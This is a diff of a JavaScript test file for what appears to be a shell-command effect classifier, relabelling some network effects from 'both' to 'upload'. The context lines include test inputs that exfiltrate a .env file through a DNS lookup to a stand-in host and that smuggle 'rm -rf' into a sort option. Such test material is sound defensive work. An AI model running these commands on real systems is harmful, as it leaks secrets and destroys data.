@@ -134,9 +134,9 @@ describe("targets of operations", () => {
     ["aws s3 mv f s3://b/k", "read f; delete f; network b.s3.amazonaws.com upload"],
     [
       "aws lambda invoke --payload file://p.json out",
-      "read p.json; network lambda.amazonaws.com both; config aws invoke lambda/out",
+      "read p.json; network lambda.amazonaws.com upload; config aws invoke lambda/out",
     ],
-    ["gh pr create -t x -b y", "network api.github.com both; config github create pr"],
+    ["gh pr create -t x -b y", "network api.github.com upload; config github create pr"],
     ["aws $X rm s3://b", "opaque"],
     ["dig $(cat .env).h.example", "read .env; network .h.example both maybe; opaque"],
     ["sort --compress-program='rm -rf x' f", "(sort rm); read f; delete x recursive; run rm -rf x; opaque"],
